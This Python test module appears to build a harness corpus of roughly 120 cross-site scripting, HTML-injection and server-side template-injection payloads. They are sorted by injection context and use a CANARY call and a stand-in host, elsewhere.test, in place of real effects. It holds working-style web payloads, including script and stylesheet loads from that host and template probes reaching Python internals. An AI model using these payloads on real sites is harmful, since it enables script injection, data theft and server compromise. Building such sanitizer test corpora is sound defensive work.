"""
Texts that would run a script, ask another server, or break out of where they stand, if a page let them.

120 of them; ``CANARY`` becomes a call that the harness notices, `FOREIGN` is a place that nobody may be asked for. They are
written from the kinds of places that a text can land in: between tags, in an attribute with or without quotes, in an
address, in a script, in JSON, in a style, in a comment, in a template.
"""

from __future__ import annotations

FOREIGN = "//elsewhere.test/x"

_SCRIPTS = """
<script>CANARY</script>
<SCRIPT>CANARY</SCRIPT>
<script src=//elsewhere.test/x></script>
<script src="data:text/javascript,CANARY"></script>
<scr<script>ipt>CANARY</scr</script>ipt>
<script/xss>CANARY</script>
<script >CANARY</script >
<script>/*<!--*/CANARY//--></script>
<script type=module>import "//elsewhere.test/x"</script>
<script type="text/javascript">CANARY</script
<<script>CANARY//<</script>
<noscript><p title="</noscript><script>CANARY</script>">
<xml><script>CANARY</script></xml>
"""

_HANDLERS = """
<img src=x onerror=CANARY>
<img src=//elsewhere.test/x>
<img src="x" onerror="CANARY">
<img/src=x/onerror=CANARY>
<img src=x:x onerror=CANARY//
<body onload=CANARY>
<input autofocus onfocus=CANARY>
<select autofocus onfocus=CANARY>
<textarea autofocus onfocus=CANARY>
<details open ontoggle=CANARY>
<video src=x onerror=CANARY></video>
<audio src onerror=CANARY>
<video><source onerror=CANARY></video>
<marquee onstart=CANARY>
<iframe onload=CANARY></iframe>
<object data=//elsewhere.test/x onerror=CANARY></object>
<embed src=//elsewhere.test/x>
<div onpointerover=CANARY>over</div>
<style onload=CANARY></style>
<link rel=stylesheet href=//elsewhere.test/x onload=CANARY>
<p id=x tabindex=1 onfocus=CANARY style=animation-name:x onanimationstart=CANARY>
<button popovertarget=y onclick=CANARY>press</button><p popover id=y onbeforetoggle=CANARY>
"""

_SVG = """
<svg onload=CANARY>
<svg/onload=CANARY>
<svg><script>CANARY</script></svg>
<svg><script href=data:,CANARY /></svg>
<svg><animate onbegin=CANARY attributeName=x dur=1s>
<svg><a xlink:href="javascript:CANARY"><text x=20 y=20>x</text></a></svg>
<svg><image href=//elsewhere.test/x></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='CANARY'/>#x"></svg>
<svg><foreignObject><iframe srcdoc="<script>CANARY</script>"></foreignObject></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=CANARY>
<math href="javascript:CANARY">x</math>
"""

_ATTRIBUTES = """
" onmouseover="CANARY" x="
' onmouseover='CANARY' x='
" autofocus onfocus="CANARY
' autofocus onfocus='CANARY
x onmouseover=CANARY
"><script>CANARY</script>
'><script>CANARY</script>
"><img src=x onerror=CANARY>
'><img src=x onerror=CANARY>
`><img src=x onerror=CANARY>
--><script>CANARY</script><!--
</title><script>CANARY</script>
</textarea><script>CANARY</script>
</option></select><script>CANARY</script>
</section></main><script>CANARY</script>
" style="background:url(//elsewhere.test/x)
" formaction="javascript:CANARY" type="submit
" srcdoc="<script>CANARY</script>
" accesskey="x" onclick="CANARY
"/><base href="//elsewhere.test/x
"""

_ADDRESSES = """
javascript:CANARY
JaVaScRiPt:CANARY
javascript://%0aCANARY
data:text/html,<script>CANARY</script>
data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMCk8L3NjcmlwdD4=
vbscript:CANARY
//elsewhere.test/x
https://elsewhere.test/x?"onclick="CANARY
[click](javascript:CANARY)
![picture](//elsewhere.test/x)
<a href="javascript:CANARY">x</a>
<a href="&#106;avascript:CANARY">x</a>
<form action=javascript:CANARY><button>x</button></form>
<meta http-equiv=refresh content="0;url=javascript:CANARY">
<meta http-equiv=refresh content="0;url=//elsewhere.test/x">
<base href=//elsewhere.test/x>
../../sign-out?x=<script>CANARY</script>
"""

_TEMPLATES = """
{{7*7}}{{CANARY}}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
{{constructor.constructor('CANARY')()}}
${CANARY}
#{CANARY}
<%= CANARY %>
{{'a'.constructor.prototype.charAt=[].join;CANARY}}
[[${CANARY}]]
{php}CANARY{/php}
{{request.application.__globals__}}
"""

_SCRIPT_CONTEXTS = """
</script><script>CANARY</script>
";CANARY;//
';CANARY;//
\\";CANARY;//
`;CANARY;//
</script><svg onload=CANARY>
*/CANARY/*
]]><script>CANARY</script>
{"__proto__":{"x":"<img src=x onerror=CANARY>"}}
"""

_STYLES = """
<style>@import'//elsewhere.test/x';</style>
<style>*{background:url(//elsewhere.test/x)}</style>
<p style="background:url(//elsewhere.test/x)">x</p>
</style><script>CANARY</script>
<link rel=prefetch href=//elsewhere.test/x>
<link rel=preload as=script href=//elsewhere.test/x>
"""

_ENCODED = """
&lt;script&gt;CANARY&lt;/script&gt;
%3Cscript%3ECANARY%3C/script%3E
\\u003cscript\\u003eCANARY\\u003c/script\\u003e
＜script＞CANARY＜/script＞
‮<script>CANARY</script>‬
+ADw-script+AD4-CANARY+ADw-/script+AD4-
"""

_MUTATIONS = """
<p id="</p><img src=x onerror=CANARY>">
<listing>&lt;img src=x onerror=CANARY&gt;</listing>
<template><img src=x onerror=CANARY></template>
<noembed><img title="</noembed><img src=x onerror=CANARY>">
"""

_POLYGLOTS = """
jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */oNcliCk=CANARY )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=CANARY//>
'">><marquee><img src=x onerror=CANARY></marquee>"></plaintext></|><plaintext/onmouseover=CANARY>
"""

_ALL = "".join(
    (
        _SCRIPTS,
        _HANDLERS,
        _SVG,
        _ATTRIBUTES,
        _ADDRESSES,
        _TEMPLATES,
        _SCRIPT_CONTEXTS,
        _STYLES,
        _ENCODED,
        _MUTATIONS,
        _POLYGLOTS,
    )
)

PAYLOADS = tuple(
    line.replace("CANARY", f"canary({number})")
    for number, line in enumerate((line for line in _ALL.splitlines() if line), start=1)
)


def groups(most_chars: int = 190) -> list[str]:
    """All of them in as few texts as fit into a name, each payload whole."""
    found: list[str] = []
    for payload in PAYLOADS:
        if found and len(found[-1]) + 1 + len(payload) <= most_chars:
            found[-1] += " " + payload
        else:
            found.append(payload)
    return found
